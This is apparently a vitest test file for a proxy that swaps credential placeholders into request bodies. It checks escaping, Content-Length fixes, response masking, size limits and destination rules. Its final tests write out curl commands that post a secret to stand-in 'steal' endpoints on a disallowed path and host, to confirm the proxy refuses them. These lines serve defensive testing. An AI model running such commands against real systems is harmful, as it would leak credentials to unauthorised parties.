/**
 * Body swaps in the run proxy (docs/gateway.md §10a "Body swaps") with real clients
 * (Debian's curl, Python requests, undici in Node) against the HTTPS test server: a
 * credential whose item sets `swapInBody` arrives in a JSON or form body as the real
 * value — escaped as the type needs, with a correct Content-Length, chunked or not — and
 * is turned back into the placeholder in the echoed response; a credential without the
 * rule stays a placeholder in the body; a body placeholder toward a path or host the item
 * does not allow is refused before the server and recorded; an oversized textual body is
 * refused with 413, a binary body passes untouched.
 */
import { mkdtempSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { personalPolicy } from '../../../src/core/policy';
import { createMemoryKeychain } from '../../../src/main/keychain/keychain.memory';
import { loadOrCreateDeviceCa } from '../../../src/main/proxy/ca';
import type { ProxyRecord } from '../../../src/main/proxy/proxy';
import { startProxiedRun, type ProxiedRun } from '../../../src/main/proxy/run-env';
import { createTestCa, runChild, startUpstream, type Upstream } from './harness';

// Characters that would break a JSON string, a form or XML if pasted raw.
const BODY_SECRET = 'sk-Body"Secret\\&+=<x> 0123456789abcdefXYZ';
const HEAD_SECRET = 'ghp_HeaderOnlySecret0123456789abcdefABCD';
const BODY_ID = 'BBBBBBBBBBBBBBBBBBBBBB';
const HEAD_ID = 'HHHHHHHHHHHHHHHHHHHHHH';
let api: Upstream;
let run: ProxiedRun;
let env: Record<string, string>;
let bodyPh: string;
let headPh: string;
const records: ProxyRecord[] = [];

beforeAll(async () => {
  const testCa = await createTestCa();
  api = await startUpstream(testCa, ['api.test']);
  const ca = await loadOrCreateDeviceCa(createMemoryKeychain());
  run = await startProxiedRun(
    [
      { env: 'BODY_KEY', itemId: BODY_ID, name: 'Body API', secret: BODY_SECRET, rules: ['POST https://api.test/body/*', 'POST https://api.test/big'], swapInBody: true },
      { env: 'HEAD_KEY', itemId: HEAD_ID, name: 'Header API', secret: HEAD_SECRET, rules: ['https://api.test'] },
    ],
    {
      ca,
      command: 'test-client',
      policy: () => personalPolicy(),
      record: async (r) => void records.push(r),
      otherHosts: 'tunnel',
      upstreamCa: [testCa.certPem],
      dial: async (host) => {
        if (host === 'api.test' || host === 'other.test') return { address: '127.0.0.1', port: api.port };
        throw new Error('no such host');
      },
    },
  );
  bodyPh = run.placeholders.get(BODY_ID)!;
  headPh = run.placeholders.get(HEAD_ID)!;
  env = { ...run.env, HOME: mkdtempSync(path.join(os.tmpdir(), 'lk-body-')) };
}, 30_000);
afterAll(async () => {
  await run?.close();
  await api?.close();
});

const sh = (script: string) => runChild('sh', ['-c', script], env);
const last = () => api.requests.at(-1)!;

describe('a credential whose item sets swapInBody', () => {
  it('curl: a JSON body reaches the server with the real value (JSON-escaped), Content-Length fixed; the echo comes back as the placeholder', async () => {
    const r = await sh(`curl -sS -H 'content-type: application/json' --data "{\\"api_key\\":\\"$BODY_KEY\\",\\"other\\":\\"$HEAD_KEY\\"}" https://api.test/body/curl`);
    expect(r.stderr).toBe('');
    const got = JSON.parse(last().body) as { api_key: string; other: string };
    expect(got.api_key).toBe(BODY_SECRET);
    // The header-only item's placeholder is not swapped in a body.
    expect(got.other).toBe(headPh);
    expect(Number(last().headers['content-length'])).toBe(Buffer.byteLength(last().body));
    expect(r.stdout).toContain(bodyPh);
    expect(r.stdout).not.toContain('Body\\"Secret');
    expect(r.stdout).not.toContain(BODY_SECRET);
    expect(records.at(-1)).toMatchObject({ action: 'proxy.swap', origin: 'https://api.test', method: 'POST', itemId: BODY_ID });
    expect(JSON.stringify(records)).not.toContain('Secret');
  });

  it('Python requests: json= body swapped', async () => {
    const r = await runChild(
      'python3',
      ['-c', "import os,requests; r=requests.post('https://api.test/body/py', json={'api_key': os.environ['BODY_KEY']}); print(r.status_code)"],
      env,
    );
    expect(r.stderr).toBe('');
    expect(r.stdout.trim()).toBe('200');
    expect((JSON.parse(last().body) as { api_key: string }).api_key).toBe(BODY_SECRET);
  });

  it('Node (undici fetch): JSON body swapped, the other item left as its placeholder', async () => {
    const r = await runChild(process.execPath, [path.resolve('test/unit/proxy/fixtures/node-post-json.mjs'), 'https://api.test/body/node'], env);
    expect(r.stderr).toBe('');
    expect(r.stdout.startsWith('200 body ')).toBe(true);
    expect(JSON.parse(last().body)).toEqual({ api_key: BODY_SECRET, other: headPh });
    expect(r.stdout).not.toContain(BODY_SECRET);
  });

  it('a form body is percent-encoded so the secret stays one value; a chunked upload arrives with a Content-Length', async () => {
    await sh(
      `printf 'a=1&key=%s&b=2' "$BODY_KEY" | curl -sS -H 'content-type: application/x-www-form-urlencoded' -H 'transfer-encoding: chunked' --data-binary @- https://api.test/body/form`,
    );
    const form = new URLSearchParams(last().body);
    expect(form.get('key')).toBe(BODY_SECRET);
    expect([form.get('a'), form.get('b')]).toEqual(['1', '2']);
    expect(last().headers['transfer-encoding']).toBeUndefined();
    expect(Number(last().headers['content-length'])).toBe(Buffer.byteLength(last().body));
  });

  it('a binary body is not searched: the placeholder goes as it is', async () => {
    await sh(`printf '%s' "$BODY_KEY" | curl -sS -H 'content-type: application/octet-stream' --data-binary @- https://api.test/body/bin`);
    expect(last().body).toBe(bodyPh);
  });

  it('a textual body over 1 MiB is refused with 413, before the server', async () => {
    const before = api.requests.length;
    const r = await sh(`head -c 1100000 /dev/zero | tr '\\0' a | curl -sS -w ' %{http_code}' -H 'content-type: text/plain' --data-binary @- https://api.test/big`);
    expect(r.stdout).toMatch(/over 1 MiB.* 413$/s);
    expect(api.requests.length).toBe(before);
  });
});

describe('a body placeholder where the item does not allow', () => {
  it('another path of the same host: refused with 403 before the server, and recorded', async () => {
    const before = api.requests.length;
    const r = await sh(`curl -sS -o /dev/null -w "%{http_code}" -H 'content-type: application/json' --data "{\\"k\\":\\"$BODY_KEY\\"}" https://api.test/echo/steal`);
    expect(r.stdout).toBe('403');
    expect(api.requests.length).toBe(before);
    expect(records.at(-1)).toMatchObject({ action: 'proxy.refused_destination', origin: 'https://api.test', method: 'POST', itemId: BODY_ID });
  });

  it('another host (plain HTTP through the proxy): refused with 403 and recorded, exactly like a header placeholder', async () => {
    const r = await sh(`curl -sS -o /dev/null -w "%{http_code}" -H 'content-type: text/plain' --data "t=$BODY_KEY" http://other.test/steal`);
    expect(r.stdout).toBe('403');
    expect(records.at(-1)).toMatchObject({ action: 'proxy.refused_destination', origin: 'http://other.test', method: 'POST', itemId: BODY_ID });
  });
});
